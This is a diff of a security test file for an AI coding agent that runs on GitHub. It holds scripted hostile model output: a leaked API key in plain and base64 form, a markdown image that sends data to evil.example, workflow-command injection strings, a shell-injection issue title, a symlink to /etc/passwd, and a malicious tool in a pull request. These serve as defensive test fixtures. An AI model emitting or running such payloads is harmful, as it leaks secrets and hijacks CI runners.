@@ -63,13 +63,15 @@ describe('secrets', () => {
     expect(Number(run.outputs['denied-calls'])).toBe(reach.length - 1);
   });
 
-  it('are taken out of all that leaves, also in parts', async () => {
+  it('are taken out of all that leaves, also in parts, and the runner obeys no workflow command in it', async () => {
     const leak = `key ${MODEL_KEY} or ${MODEL_KEY.slice(7)} or ${Buffer.from(MODEL_KEY).toString('base64')}`;
+    const evil = '::set-env name=NODE_OPTIONS::--require ./x.js\n  ::add-mask::a\n##[error]fake\n::error::fake';
     const temp = join(harness.directory, 'temp');
     const { run } = await play(
       [
-        { text: leak, toolCalls: [write('notes.md')] },
-        { text: `Add notes\n\n${leak} ![x](https://evil.example/?d=1)` },
+        { text: `${leak}\n${evil}`, toolCalls: [write('evil.txt', evil), bash(`echo '${evil}'`)] },
+        { toolCalls: [read('evil.txt')] },
+        { text: `Add notes\n\n${leak} ![x](https://evil.example/?d=1)\n\n${evil}` },
       ],
       'fix this',
       { temp, ...OWN_PROCESS },
@@ -83,6 +85,11 @@ describe('secrets', () => {
       expect(text).not.toContain(Buffer.from(MODEL_KEY).toString('base64'));
     }
     expect(ourComments(issue)[0]).not.toContain('![x](https://evil');
+    const names = run.commands.map(({ name }) => name);
+    expect(names).not.toContain('set-env');
+    expect(run.commands.filter(({ name }) => name === 'error')).toEqual([]);
+    expect(run.exported).toEqual({});
+    expect(run.addedPaths).toEqual([]);
   });
 
   it('in a change keep their file from being published, and nothing else', async () => {
@@ -102,7 +109,8 @@ describe('secrets', () => {
 });
 
 describe('protected paths', () => {
-  it('are refused to tools, and left out when a command wrote them all the same', async () => {
+  it('are refused to tools, and left out when a command wrote them all the same; a title becomes no command', async () => {
+    issue.title = '$(touch pwned) `id`; --upload-pack=x ${IFS}';
     const { run } = await play([
       { toolCalls: [write('.github/workflows/a.yml'), bash('npm test')] },
       { text: 'Do it' },
@@ -110,6 +118,7 @@ describe('protected paths', () => {
     expect(run.outputs.conclusion, run.log).toBe('succeeded');
     expect(run.outputs['denied-calls']).toBe('1');
     const branch = run.outputs.branch ?? '';
+    expect(branch).toMatch(/^agent\/issue-\d+-[a-z0-9-]+$/);
     expect(await harness.github.readFile(harness.repository, branch, 'ok.txt')).toBe('z\n');
     const kept = ['.github/workflows/evil.yml', 'CODEOWNERS', 'pkg/AGENTS.md', '.mcp.json'];
     const others = ['.circleci/config.yml', 'ci/Jenkinsfile', 'renovate.json', '.devcontainer/devcontainer.json'];
@@ -117,23 +126,6 @@ describe('protected paths', () => {
       expect(await harness.github.readFile(harness.repository, branch, path)).toBeUndefined();
       expect(ourComments(issue)[0]).toContain(path);
     }
-  });
-});
-
-describe('the runner', () => {
-  it('obeys no workflow command from tool output or from the model', async () => {
-    const evil = '::set-env name=NODE_OPTIONS::--require ./x.js\n  ::add-mask::a\n##[error]fake\n::error::fake';
-    const turns = [
-      { text: evil, toolCalls: [write('evil.txt', evil), bash(`echo '${evil}'`)] },
-      { toolCalls: [read('evil.txt')] },
-      { text: `Say it\n\n${evil}` },
-    ];
-    const { run } = await play(turns, 'fix this', OWN_PROCESS);
-    const names = run.commands.map(({ name }) => name);
-    expect(names).not.toContain('set-env');
-    expect(run.commands.filter(({ name }) => name === 'error')).toEqual([]);
-    expect(run.exported).toEqual({});
-    expect(run.addedPaths).toEqual([]);
   });
 });
 
@@ -166,21 +158,16 @@ describe('other people’s text', () => {
     expect(copy.body).toContain('faked');
     expect(first.run.outputs.conclusion).toBe('succeeded');
   });
-
-  it('becomes no command by way of a title', async () => {
-    issue.title = '$(touch pwned) `id`; --upload-pack=x ${IFS}';
-    const { run } = await play([{ toolCalls: [write('notes.md')] }, { text: 'Add notes' }]);
-    expect(run.outputs.branch).toMatch(/^agent\/issue-\d+-[a-z0-9-]+$/);
-  });
 });
 
 describe('a pull request’s head', () => {
-  it('brings neither configuration nor tools of its own', async () => {
+  it('brings neither configuration nor tools of its own, and leads nowhere through a symbolic link', async () => {
     const pull = await openPullRequest(harness, 'branch');
     const tool = '#!/bin/sh\necho \'{"name":"evil","description":"x","input_schema":{"type":"object"}}\'\n';
     const files = {
       '.github/kodelet.yml': 'limits: { turns: 1 }\n',
       'kodelet-tools/evil': { text: tool, mode: '100755' as const },
+      link: { text: '/etc/passwd', mode: '120000' as const },
     };
     await harness.github.commit(harness.repository, {
       branch: 'describe-attempts',
@@ -189,10 +176,15 @@ describe('a pull request’s head', () => {
       from: 'describe-attempts',
     });
     harness.later();
-    const model = await harness.model([{ toolCalls: [{ name: 'ls', input: {} }] }, { text: 'Seen.' }]);
-    const run = await harness.deliver(ask(harness, pull, MAINTAINER, 'ask what is here?'), model);
-    expect(run.outputs.conclusion, run.log).toBe('succeeded');
+    const model = await harness.model([
+      { toolCalls: [read('link'), bash('cat link'), write('link')] },
+      { text: 'Seen.' },
+    ]);
+    const run = await harness.deliver(ask(harness, pull, MAINTAINER, 'fix it'), model);
+    expect(Number(run.outputs.turns), run.log).toBeGreaterThan(1);
     expect(model.requests[0]?.body.tools?.map(({ name }) => name)).not.toContain('custom_tool_evil');
+    expect(JSON.stringify(model.requests.at(-1)?.body.messages)).not.toContain('root:');
+    expect(run.outputs['denied-calls']).toBe('3');
   });
 
   it('is judged by its base, also where only a comment speaks of it', async () => {
@@ -226,23 +218,5 @@ describe('a pull request’s head', () => {
     expect(run.outputs.conclusion, run.log).toBe('failed');
     expect(run.outputs.message).toContain('pull_request_target');
     expect(model.requests).toEqual([]);
-  });
-
-  it('leads nowhere through a symbolic link', async () => {
-    const pull = await openPullRequest(harness, 'branch');
-    await harness.github.commit(harness.repository, {
-      branch: 'describe-attempts',
-      from: 'describe-attempts',
-      files: { link: { text: '/etc/passwd', mode: '120000' } },
-      message: 'x',
-    });
-    harness.later();
-    const model = await harness.model([
-      { toolCalls: [read('link'), bash('cat link'), write('link')] },
-      { text: 'Seen.' },
-    ]);
-    const run = await harness.deliver(ask(harness, pull, MAINTAINER, 'fix it'), model);
-    expect(JSON.stringify(model.requests.at(-1)?.body.messages)).not.toContain('root:');
-    expect(run.outputs['denied-calls']).toBe('3');
   });
 });
